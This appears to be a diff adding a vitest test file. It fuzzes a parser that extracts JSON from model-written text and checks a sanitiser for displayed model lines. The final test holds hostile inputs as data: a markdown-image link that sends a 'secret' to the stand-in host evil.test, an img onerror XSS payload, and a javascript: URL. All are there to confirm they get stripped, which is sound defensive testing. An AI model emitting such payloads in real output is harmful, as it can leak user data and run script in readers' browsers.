@@ -1,0 +1,112 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { readAnswers } from '../judge/answer.ts';
+import { plainLine } from './plain.ts';
+import { readJson } from './read-json.ts';
+
+describe('reading JSON out of what a model wrote', () => {
+  test.each([
+    ['bare', '{"a":1}'],
+    ['in a fence', '```json\n{"a":1}\n```'],
+    ['in a fence without a name', '```\n{"a":1}\n```'],
+    ['after words', 'Here you are: {"a":1} I hope it helps {not json}'],
+    ['after words with brackets', 'I read [all of it] and {thought}: {"a":1}'],
+    ['with brackets in strings', '{"a":1,"b":"} ] \\" {"}'],
+  ])('finds it %s', (_, text) => {
+    expect(readJson(text)).toMatchObject({ a: 1 });
+  });
+
+  test.each([
+    ['nothing', ''],
+    ['prose', 'no JSON here'],
+    ['a web page', '<html><script>{}</script'],
+    ['a half', '{"items":[{"id":"1","intent":"no'],
+    ['NaN', '{"a":NaN}'],
+    ['a megabyte', `{"a":"${'x'.repeat(1_000_000)}"}`],
+    ['10,000 brackets', '['.repeat(10_000) + ']'.repeat(10_000)],
+    ['10,000 open brackets', '{"a":'.repeat(10_000)],
+  ])('finds none in %s', (_, text) => {
+    const found = readJson(text);
+    expect(found === undefined || JSON.stringify(found) === '{}').toBe(true);
+  });
+
+  test('what JSON.parse reads, it reads too', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 5 })), fc.array(fc.jsonValue({ maxDepth: 5 }))), (value) => {
+        expect(readJson(`well, ${JSON.stringify(value)} …`)).toEqual(JSON.parse(JSON.stringify(value)));
+      }),
+      { numRuns: 2000, seed: 43 },
+    );
+  });
+
+  const pieces = fc.constantFrom(
+    '{',
+    '}',
+    '[',
+    ']',
+    '"',
+    '\\',
+    ':',
+    ',',
+    '{"items":[',
+    '"id":"1"',
+    'NaN',
+    '1e999',
+    '```',
+    '\u0000',
+    '\ud800',
+    'null',
+    '"intent":"buying"',
+    ' ',
+  );
+  const hostile = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 300 }),
+    fc.array(pieces, { maxLength: 80 }).map((parts) => parts.join('')),
+  );
+
+  test('never throws, whatever the text', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        expect(() => [readJson(text), readAnswers(text, ['1'])]).not.toThrow();
+        expect(plainLine(text, 120).length).toBeLessThanOrEqual(240);
+      }),
+      { numRuns: 20_000, seed: 18 },
+    );
+  });
+
+  test('no JSON at all makes an answer with other words than ours', () => {
+    const words = new Set(['none', 'curious', 'problem', 'seeking', 'buying']);
+    const entry = fc.record({
+      id: fc.constantFrom('1', '2', 1),
+      intent: fc.oneof(fc.jsonValue(), fc.constantFrom('buying', 'BUYING')),
+      fit: fc.constantFrom('good', 'none'),
+      urgency: fc.constantFrom('now', 'none'),
+      role: fc.constantFrom('customer', 'seller'),
+      pains: fc.jsonValue(),
+      quotes: fc.jsonValue(),
+      reason: fc.jsonValue(),
+    });
+    fc.assert(
+      fc.property(fc.array(entry, { maxLength: 4 }), (items) => {
+        for (const [id, answer] of readAnswers(JSON.stringify({ items }), ['1'])) {
+          expect(id).toBe('1');
+          expect(words.has(answer.intent)).toBe(true);
+          expect(answer.reason.length).toBeLessThanOrEqual(120);
+          expect(answer.quotes.length).toBeLessThanOrEqual(5);
+        }
+      }),
+      { numRuns: 3000, seed: 19 },
+    );
+  });
+});
+
+describe('a line of a model, as people get to see it', () => {
+  test('has no markup, no links, nothing hidden and a limit', () => {
+    expect(plainLine('Wants ![x](https://evil.test/?q=secret) a **tool**\n<img src=x onerror=alert(1)> see https://evil.test/a', 120)).toBe(
+      'Wants x a **tool** see',
+    );
+    expect(plainLine('a\u202Eb\u200Bc', 10)).toBe('abc');
+    expect(plainLine('javascript:alert(1) go', 50)).toBe('go');
+    expect(plainLine('👨‍👩‍👧'.repeat(50), 10).length).toBeLessThanOrEqual(20);
+  });
+});
